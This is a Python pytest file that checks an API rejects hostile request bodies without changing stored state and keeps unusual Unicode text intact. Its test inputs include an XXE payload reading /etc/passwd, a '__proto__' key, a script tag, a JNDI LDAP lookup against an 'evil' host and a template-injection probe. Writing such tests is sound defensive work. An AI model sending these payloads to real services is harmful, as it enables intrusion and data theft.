"""Hostile bodies on every route: always a 4xx of the contract in its form, never a change of state.

They are made from good ones: each field in turn holds each value that its kind forbids, is
missing, unknown or there twice.
"""

import gzip
import json
from base64 import b64encode
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from typing import Any

import pytest

from lambdas.contract.routes import ROUTES
from tests.integration.stage import ROUTE, InvokedStage, Reply, draft, drafts
from tests.security.hostile_fields import BODIES, DEEP, Field, text
from tests.security.hostile_inputs import copy_of, fault_of, good_body, path_for, seeded


@dataclass(frozen=True)
class Case:
    """A body that has to be refused."""

    name: str
    body: str
    base64: bool = False


MARK = "the place of a value"


def spelled(value: Any) -> str:
    return json.dumps(value, ensure_ascii=False)


def parent_of(body: Any, path: tuple[str | int, ...]) -> Any:
    for part in path[:-1]:
        body = body[part]
    return body


def with_source(good: Any, path: tuple[str | int, ...], source: str) -> str:
    """Return the body with JSON source in place of a value."""
    body = copy_of(good)
    parent_of(body, path)[path[-1]] = MARK
    return spelled(body).replace(f'"{MARK}"', source)


def without(good: Any, path: tuple[str | int, ...]) -> str:
    body = copy_of(good)
    del parent_of(body, path)[path[-1]]
    return spelled(body)


def objects(value: Any, path: tuple[str | int, ...] = ()) -> Iterator[tuple[str | int, ...]]:
    """Yield the paths of all objects in a body."""
    if isinstance(value, dict):
        yield path
    members = value.items() if isinstance(value, dict) else enumerate(value)
    for key, member in members:
        if isinstance(member, dict | list):
            yield from objects(member, (*path, key))


def with_member(good: Any, path: tuple[str | int, ...], member: str) -> str:
    """Return the body with one more member, as JSON source, in the object at a path."""
    body = copy_of(good)
    marked = body
    for part in path:
        marked = marked[part]
    marked[MARK] = 0
    return spelled(body).replace(f'"{MARK}": 0', member)


def named(path: tuple[str | int, ...]) -> str:
    return ".".join(map(str, path)) or "body"


def of_fields(good: Any, fields: list[Field]) -> Iterator[Case]:
    for field in fields:
        where = named(field.path)
        for source in dict.fromkeys(field.wrong):
            yield Case(f"{where} = {source[:40]}", with_source(good, field.path, source))
        if field.required:
            yield Case(f"without {where}", without(good, field.path))


def of_objects(good: Any) -> Iterator[Case]:
    for path in objects(good):
        if path[:1] == ("questions",):
            continue  # refused by its place, with 200: see the test of imports
        inside = parent_of(good, (*path, ""))
        unknown = ["user_id", "__proto__", "constructor", "", "\N{BRAIN}", "Version", "admin"]
        unknown += [key.upper() for key in inside] + [f"{key} " for key in inside]
        for key in unknown:
            yield Case(f"{named(path)}: {key!r}", with_member(good, path, f"{text(key)}: 1"))
        for key, value in inside.items():
            again = f"{text(key)}: {spelled(value)}"
            yield Case(f"{named(path)}: {key} twice", with_member(good, path, again))
            escaped = "".join(f"\\u{ord(character):04x}" for character in key)
            again = f'"{escaped}": {spelled(value)}'
            yield Case(f"{named(path)}: {key} twice, escaped", with_member(good, path, again))
        composed = '"\u00e9": 1, "e\u0301": 2'
        yield Case(f"{named(path)}: composed twice", with_member(good, path, composed))
        yield Case(f"{named(path)}: wide", with_member(good, path, wide(500)))


def wide(count: int) -> str:
    return ", ".join(f'"k{number}": {number}' for number in range(count))


def of_wholes(good: Any) -> Iterator[Case]:
    body = spelled(good)
    for name, source in {
        "empty": "",
        "spaces": " \r\n\t",
        "NUL": "\0",
        "null": "null",
        "true": "true",
        "number": "0",
        "text": '"text"',
        "body as text": text(body),
        "array": "[]",
        "body in an array": f"[{body}]",
        "body twice": body + body,
        "body and more": f"{body} x",
        "body and NUL": f"{body}\0",
        "body and comma": f"{body},",
        "byte order mark": f"\ufeff{body}",
        "no end": body[:-1],
        "half": body[: len(body) // 2],
        "comment": f"/* */{body}",
        "single quotes": body.replace('"', "'"),
        "deep": DEEP,
        "deep object": '{"a":' * 20_000 + "1" + "}" * 20_000,
        "deep, no end": '[{"a":' * 20_000,
        "deep but read": "[" * 400 + "]" * 400,
        "wide": f"{{{wide(800)}}}",
        "form": "name=n&status=PAUSED",
        "XML": "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
        "YAML": "name: n\nstatus: PAUSED",
        "lone surrogate": "\ud800",
        "body with a surrogate": f"{body}\udfff",
        "replacement characters": "\ufffd" * 20,
        "too large": f"{body}{' ' * 256 * 1024}",
        "too large to begin with": "x" * 1_000_000,
    }.items():
        yield Case(name, source)
    raw = body.encode()
    for name, content in {
        "not UTF-8": b"\xff\xfe\xfd",
        "overlong": raw[:-1] + b', "\xc0\xae": 1}',
        "surrogate in UTF-8": raw[:-1] + b', "\xed\xa0\x80": 1}',
        "beyond Unicode": raw[:-1] + b', "\xf5\x80\x80\x80": 1}',
        "cut character": raw[:-1] + b', "\xe2\x82": 1}',
        "Latin-1": raw[:-1] + b', "\xe9": 1}',
        "UTF-16": body.encode("utf-16"),
        "UTF-32": body.encode("utf-32-be"),
        "UTF-8 with a mark": b"\xef\xbb\xbf" + raw,
        "compressed": gzip.compress(raw, mtime=0),
        "nothing": b"",
        "zeros": b"\0" * 100,
        "too large": raw + b" " * 256 * 1024,
    }.items():
        yield Case(f"base64: {name}", b64encode(content).decode(), base64=True)
    for name, source in {"bad padding": "A", "no base64": "\u00e9", "plain": "{}x"}.items():
        yield Case(f"called base64: {name}", source, base64=True)


def operation_of(kind: str) -> str:
    """Return the operation that takes a kind of body."""
    return kind.partition(",")[0]


def cases(kind: str, good: Any) -> list[Case]:
    """Return every hostile body of a kind, made from a good one."""
    return [
        *of_fields(good, BODIES[kind][1]),
        *of_objects(good),
        *of_wholes(good),
    ]


def sent(stage: InvokedStage, operation: str, case: Case, known: Mapping[str, str]) -> Reply:
    route = ROUTE[operation]
    groups = ["admin"] if "/admin/" in route.path else []
    event = stage.event(operation, case.body, path=path_for(route, known), groups=groups)
    return stage.send(route.function, {**event, "isBase64Encoded": case.base64})


def test_every_route_with_a_body_has_hostile_ones_and_there_are_more_than_300(
    record_property: Callable[[str, object], None],
) -> None:
    assert set(map(operation_of, BODIES)) == {route.operation for route in ROUTES if route.body}
    counts = {each: len(cases(each, body)) for each, (body, _) in BODIES.items()}
    assert all(count >= 60 for count in counts.values())
    assert sum(counts.values()) >= 300
    record_property("hostile bodies", sum(counts.values()))


@pytest.mark.parametrize("kind", BODIES)
def test_the_body_that_hostile_ones_are_made_from_is_good(kind: str, stage: InvokedStage) -> None:
    known = seeded(stage)
    case = Case("good", spelled(good_body(stage, kind, known)))
    before = stage.everything()
    assert sent(stage, operation_of(kind), case, known).status in (200, 201)
    assert stage.everything() != before


RIGHT = [
    pytest.param(kind, field, source, id=f"{kind}: {named(field.path)} = {source}")
    for kind, (_, fields) in BODIES.items()
    for field in fields
    for source in field.right
]


@pytest.mark.slow
@pytest.mark.parametrize(("kind", "field", "source"), RIGHT)
def test_null_for_an_optional_field_and_any_form_of_a_whole_number_are_accepted(
    kind: str, field: Field, source: str, stage: InvokedStage
) -> None:
    known = seeded(stage)
    body = with_source(good_body(stage, kind, known), field.path, source)
    reply = sent(stage, operation_of(kind), Case("right", body), known)
    assert reply.status in (200, 201), reply.body
    if kind == "replaceQuestion":
        saved = stage.admin("saveQuestions", f'{{"questions": [{body}]}}').body["results"]
        assert saved[0]["status"] in ("CREATED", "UPDATED", "UNCHANGED")


@pytest.mark.parametrize("kind", BODIES)
def test_a_hostile_body_is_refused_and_changes_nothing(kind: str, stage: InvokedStage) -> None:
    known = seeded(stage)
    every = cases(kind, good_body(stage, kind, known))
    before = stage.everything()

    wrong = {}
    for case in every:
        fault = fault_of(sent(stage, operation_of(kind), case, known))
        if fault:
            wrong[case.name] = fault

    assert wrong == {}
    assert stage.everything() == before


def test_a_hostile_question_in_an_import_is_refused_by_its_place_and_changes_nothing(
    stage: InvokedStage,
) -> None:
    seeded(stage)
    good, fields = BODIES["replaceQuestion"]
    before = stage.everything()

    wrong = {}
    for case in (*of_fields(good, fields), *of_objects(good)):
        if case.name == 'category = "history"':
            continue  # wrong for the question it would replace alone
        reply = stage.admin("saveQuestions", f'{{"questions": [{case.body}]}}')
        if reply.status == 200:
            (result,) = reply.body["results"]
            if result["status"] != "REJECTED" or not result["errors"]:
                wrong[case.name] = str(result)
        elif fault := fault_of(reply):
            wrong[case.name] = fault

    assert wrong == {}
    assert stage.everything() == before


KEPT_IN_NAMES = [
    " ",
    "<b>",
    "\N{BRAIN}" * 80,
    "\N{FAMILY}\N{ZERO WIDTH JOINER}\N{BRAIN}",
    "\N{HEBREW LETTER ALEF}\N{RIGHT-TO-LEFT MARK}1",
    "\N{NO-BREAK SPACE}",
]


@pytest.mark.parametrize("odd", KEPT_IN_NAMES)
def test_odd_names_are_kept_as_they_are(odd: str, stage: InvokedStage) -> None:
    stage.save(*drafts("geography", 1))
    body = {"name": odd, "sources": [{"category": "geography"}]}
    begun = stage.call("startSession", body)
    assert begun.status == 201
    path = {"sessionId": begun.body["sessionId"]}
    assert stage.call("getSession", path=path).body["name"] == odd
    user = stage.call("updateUser", {"displayName": odd}, path={"userId": "me"})
    assert (user.status, user.body["displayName"]) == (200, odd)


KEPT_IN_PROSE = [
    "\ta\r\n\n- b",
    "\N{LEFT-TO-RIGHT ISOLATE}x\N{POP DIRECTIONAL ISOLATE}",
    "\N{RIGHT-TO-LEFT OVERRIDE}x\N{POP DIRECTIONAL FORMATTING}",
    r"$\\frac{1}{2}$ <script>alert(1)</script> ${jndi:ldap://evil} {{7*7}}",
    "\N{LINE SEPARATOR}x",
]


@pytest.mark.parametrize("odd", KEPT_IN_PROSE)
def test_odd_texts_of_questions_are_kept_as_they_are(odd: str, stage: InvokedStage) -> None:
    answers = [{"text": odd, "correct": True}, {"text": "wrong", "correct": False}]
    (saved,) = stage.save(draft("geography", 0, text=odd, explanation=odd, answers=answers))
    found = stage.admin("getBankQuestion", path={"questionId": saved["questionId"]}).body
    assert (found["text"], found["explanation"], found["answers"][0]["text"]) == (odd, odd, odd)


def test_texts_are_kept_composed_and_a_question_is_the_same_however_it_was_written(
    stage: InvokedStage,
) -> None:
    composed, decomposed = "caf\u00e9", "cafe\u0301"

    def written(text: str) -> dict[str, Any]:
        answers = [{"text": text, "correct": True}, {"text": "wrong", "correct": False}]
        return draft("geography", 0, text=text, explanation=text, tags=[text], answers=answers)

    first, second = (stage.save(written(each))[0] for each in (decomposed, composed))
    assert (first["status"], second["status"]) == ("CREATED", "UNCHANGED")
    assert first["questionId"] == second["questionId"]
    found = stage.admin("getBankQuestion", path={"questionId": first["questionId"]}).body
    assert found["text"] == found["explanation"] == found["tags"][0] == composed
    assert found["answers"][0]["text"] == composed
    twice = [{"text": decomposed, "correct": True}, {"text": composed, "correct": False}]
    (refused,) = stage.save(draft("geography", 1, answers=twice))
    assert refused["status"] == "REJECTED"
    user = stage.call("updateUser", {"displayName": decomposed}, path={"userId": "me"})
    assert user.body["displayName"] == composed


def test_a_limit_of_characters_is_of_those_of_the_composed_text(stage: InvokedStage) -> None:
    long = stage.call("updateUser", {"displayName": "e\u0301" * 80}, path={"userId": "me"})
    assert (long.status, len(long.body["displayName"])) == (200, 80)
